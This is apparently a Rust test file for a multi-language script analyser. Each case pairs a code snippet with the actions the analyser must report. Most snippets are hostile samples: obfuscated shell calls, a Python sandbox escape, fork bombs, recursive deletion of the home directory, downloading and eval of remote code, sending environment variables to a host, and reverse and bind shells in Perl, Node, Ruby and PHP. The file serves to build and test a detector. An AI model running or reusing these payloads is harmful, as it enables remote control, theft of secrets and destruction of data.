//! What the looks must find, language by language, as one line an act.

use super::*;

pub(crate) fn shown(value: &Value) -> String {
    match value {
        Value::Known(text) => text.to_string(),
        Value::Pieced(pieces) => pieces
            .iter()
            .map(|p| match p {
                Piece::Text(t) => t.to_string(),
                Piece::Open(s) => {
                    format!("<{:?}{}{}>", s.origin, if s.detail.is_empty() { "" } else { " " }, s.detail)
                }
            })
            .collect(),
    }
}

pub(crate) fn lines(lang: Lang, text: &str) -> Vec<String> {
    listed(&look(lang, text))
}

pub(crate) fn listed(found: &Found) -> Vec<String> {
    let acts = found.acts.iter().map(|a| {
        format!("{:?} {}", a.what, a.args.iter().map(shown).collect::<Vec<_>>().join(" | "))
            .trim_end()
            .to_owned()
    });
    acts.chain(found.unknown.iter().map(|d| format!("? {:?} {}", d.grade, d.detail))).collect()
}

/// Cases: a text, and the acts and doubts that it must show.
type Cases = &'static [(&'static str, &'static [&'static str])];

fn hold(lang: Lang, cases: Cases) {
    for (text, acts) in cases {
        assert_eq!(lines(lang, text), *acts, "{text}");
    }
}

#[test]
fn python_calls_are_found_under_any_name() {
    hold(
        Lang::Python,
        &[
            (
                "import os as o\nfrom shutil import rmtree as r\no.system('ls'); r('/a')",
                &["Shell ls", "DeleteTree /a"],
            ),
            ("getattr(__import__('os'),'sys'+'tem')('id')", &["Shell id"]),
            ("globals()['__builtins__'].__dict__['eval'](\"__import__('os').system('id')\")", &["Shell id"]),
            (
                "().__class__.__bases__[0].__subclasses__()[1].__init__.__globals__['system']('id')",
                &["Shell id", "? Hidden walks over all classes to reach what it does not name"],
            ),
            ("def f(c):\n  import os\n  os.system(c)\nf('ls')", &["Shell ls"]),
            ("import os; os.execl('/bin/sh','sh','-p')", &["Exec /bin/sh | -p"]),
            (
                "import subprocess as s; s.run(['rm','-r','x']); s.call('ls', shell=True); s.run(['bash'], input='id')",
                &["Exec rm | -r | x", "Shell ls", "Shell id"],
            ),
            ("for p in ['a','b']:\n    open(p)", &["Read a", "Read b"]),
            ("import os\nwhile True:\n    os.fork()", &["Exhaust fork in a loop without end"]),
            ("m = input()\nimport os\ngetattr(os, m)()", &["? Hidden a member is chosen at run time"]),
        ],
    );
}

#[test]
fn python_texts_are_put_together() {
    hold(
        Lang::Python,
        &[
            ("import os,base64\nos.system(base64.b64decode('aWQ=').decode())", &["Shell id"]),
            (
                "import os\nos.system('di'[::-1]); os.system(''.join(map(chr,[108,115]))); os.system(f\"{'r'}m {os.environ['A']}/x\")",
                &["Shell id", "Shell ls", "Shell rm <Variable A>/x"],
            ),
            (
                "import os\nos.system('%s -%s' % ('ls','l')); os.system('{} {x}'.format('a',x='b'))",
                &["Shell ls -l", "Shell a b"],
            ),
            ("exec(bytes.fromhex('6f70656e28227822297f').decode()[:-1])", &["Read x"]),
            (
                "from pathlib import Path\np = Path.home()/'.ssh'/'k'\nprint(p.read_text())\n(Path('a')/'b').unlink()",
                &["Read ~/.ssh/k", "Delete a/b"],
            ),
            (
                "import requests\nexec(requests.get('http://h/p').text)",
                &["Fetch http://h/p", "Eval <Network http://h/p>"],
            ),
            (
                "import os,urllib.request as u\nu.urlopen('http://h', data=str(dict(os.environ)).encode())",
                &["Send http://h | <Environment>"],
            ),
            ("with open('/tmp/x','w') as f:\n    f.write('a')", &["Write /tmp/x | a"]),
            (
                "import tempfile,shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
                &["DeleteTree /tmp/<Computed>"],
            ),
        ],
    );
}

#[test]
fn ordinary_scripts_raise_no_doubt() {
    for (lang, text) in [
        (
            Lang::Python,
            "import numpy as np\nimport pandas as pd\ndf = pd.DataFrame({'a': [1,2]})\nfor i, row in df.iterrows():\n    print(f\"{i:>3}: {row['a']!r}\")\nassert np.allclose(df.a, [1, 2])\n",
        ),
        (
            Lang::Python,
            "import pytest\n\n@pytest.fixture\ndef client(app):\n    '''rm -rf /'''\n    return app.test_client()\n\nclass T:\n    def test_a(self, client):\n        assert getattr(self, 'x', None) is None\n",
        ),
        (
            Lang::Node,
            "const express = require('express'); const app = express();\napp.get('/', (req, res) => { res.send(`hi ${req.query.x}`); });\napp.listen(3000);",
        ),
        (
            Lang::Perl,
            "while (my $l = <>) { chomp $l; my @f = split /\\t/, $l; print join(',', @f[0..2]), \"\\n\" if $f[1] =~ m{^a/b}; }",
        ),
        (Lang::Ruby, "require 'json'\nputs JSON.parse(STDIN.read)['a'].map { |x| x['b'] }.join(', ')"),
        (
            Lang::Awk,
            "BEGIN { FS = \",\" } $3 > 5 && /x\\/y/ { s += $2; c[$1]++ } END { for (k in c) printf \"%s %d\\n\", k, c[k]; print s/NR }",
        ),
    ] {
        assert_eq!(lines(lang, text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn javascript_calls_are_found() {
    hold(
        Lang::Node,
        &[
            ("require('child_process').spawn('/bin/sh', {stdio: [0,1,2]})", &["Exec /bin/sh"]),
            (
                "const {exec:e}=require('child_' + 'process'); e(`rm -rf ${process.env.HOME}/x`)",
                &["Shell rm -rf <Variable HOME>/x"],
            ),
            (
                "require('https').get('https://h/x', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })",
                &["Fetch https://h/x", "Eval <Network https://h/x>"],
            ),
            (
                "require('fs').rmSync(process.env.HOME,{recursive:true,force:true})",
                &["DeleteTree <Variable HOME>"],
            ),
            ("[]['constructor']['constructor'](\"require('fs').unlinkSync('a')\")()", &["Delete a"]),
            (
                "const sh = require('child_process').spawn('sh'); require('net').connect(1, 'h', function () { this.pipe(sh.stdin); })",
                &["Exec sh", "Connect h | 1", "StreamsToNetwork"],
            ),
            (
                "import fs from 'node:fs'; (async () => { await fs.promises.writeFile('a', await (await fetch('http://h')).text()) })()",
                &["Fetch http://h", "Write a | <Network http://h>"],
            ),
            ("console.log(process.env); const re = /'/; console.log(\"rm -rf /\")", &["Environment"]),
        ],
    );
}

#[test]
fn perl_and_ruby_calls_are_found() {
    hold(
        Lang::Perl,
        &[
            (
                "system(q(ls -l)); system 'rm', '-r', 'x'; `id`",
                &["Shell ls -l", "Exec rm | -r | x", "Shell id"],
            ),
            (
                "$x = reverse 'm'.'r'; system(\"$x $ENV{HOME}/x\"); system(pack('H*','6964'))",
                &["Shell rm <Variable HOME>/x", "Shell id"],
            ),
            (
                "open(F,'<','/etc/hosts'); open(G, 'ls|'); open my $h, '>', 'o'; print $h 'x'; unlink 'a','b'; chmod 0777, 'c'",
                &["Read /etc/hosts", "Shell ls", "Write o | x", "Delete a", "Delete b", "Chmod c | 777"],
            ),
            (
                "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(80,inet_aton('h'))); open(STDIN,'>&S'); exec '/bin/sh -i'",
                &["Connect h | 80", "StreamsToNetwork", "Shell /bin/sh -i"],
            ),
            ("fork while fork", &["Exhaust fork in a loop without end"]),
            ("my $y = 'vq'; $y =~ tr/a-z/n-za-m/; eval \"system('$y')\"", &["Shell id"]),
            ("s/x/system('id')/e; print 'system(1)'; # system('no')", &["Shell id"]),
        ],
    );
    hold(
        Lang::Ruby,
        &[
            ("exec '/bin/sh'", &["Shell /bin/sh"]),
            (
                "require 'fileutils'; FileUtils.rm_rf(Dir.home); File.delete(*%w[a b])",
                &["DeleteTree ~", "Delete a", "Delete b"],
            ),
            ("Kernel.send(:system, 'id'); %x(ls); system ['6c73'].pack('H*')", &["Shell id", "Shell ls"]),
            (
                "f=TCPServer.new(9); s=f.accept; [0,1,2].each { |d| IO.new(d).reopen(s) }; exec 'sh -i'",
                &["Listen 9", "StreamsToNetwork", "Shell sh -i"],
            ),
            (
                "File.open('o', 'w+') { |f| f.write('D') }\ndef run(c)\n  system c\nend\nrun \"ls\"",
                &["Write o | D", "Shell ls"],
            ),
        ],
    );
}

#[test]
fn php_lua_awk_and_r_calls_are_found() {
    hold(
        Lang::Php,
        &[
            (
                "$s=fsockopen('h',1);exec('sh -i <&3 >&3 2>&3');",
                &["Connect h | 1", "StreamsToNetwork", "Shell sh -i <&3 >&3 2>&3"],
            ),
            (
                "$f='sys'.'tem'; $f('id'); `ls`; unlink('a'); eval(base64_decode('ZWNobyAxOw==')); include '/tmp/x';",
                &["Shell id", "Shell ls", "Delete a", "Load /tmp/x"],
            ),
            (
                "file_put_contents('/tmp/x', file_get_contents('http://h/x')); echo 'system(\"x\")';",
                &["Fetch http://h/x", "Write /tmp/x | <Network http://h/x>"],
            ),
        ],
    );
    hold(
        Lang::Lua,
        &[(
            "local o = _G['o'..'s']; o.execute(string.char(105,100)); io.open('f','w'):write('x') -- os.remove('n')",
            &["Shell id", "Write f | x"],
        )],
    );
    hold(
        Lang::R,
        &[(
            "unlink('a', recursive=TRUE); system(paste('ls', '-l')); eval(parse(text=\"file.remove('b')\"))",
            &["DeleteTree a", "Shell ls -l", "Delete b"],
        )],
    );
    hold(
        Lang::Awk,
        &[
            ("BEGIN { c = sprintf(\"%c%c\", 108, 115); system(c \" -l\") }", &["Shell ls -l"]),
            (
                "{ print $1 > \"o\"; print | \"sort\"; printf \"x\" >> \"p\" }",
                &["Write o | <Stdin>", "Shell sort", "Append p | x"],
            ),
            (
                "BEGIN { while ((getline l < \"/etc/hosts\") > 0) print l; \"date\" | getline d; print ENVIRON[\"A\"] }",
                &["Read /etc/hosts", "Shell date", "Print <Variable A>"],
            ),
        ],
    );
}

mod any_text;
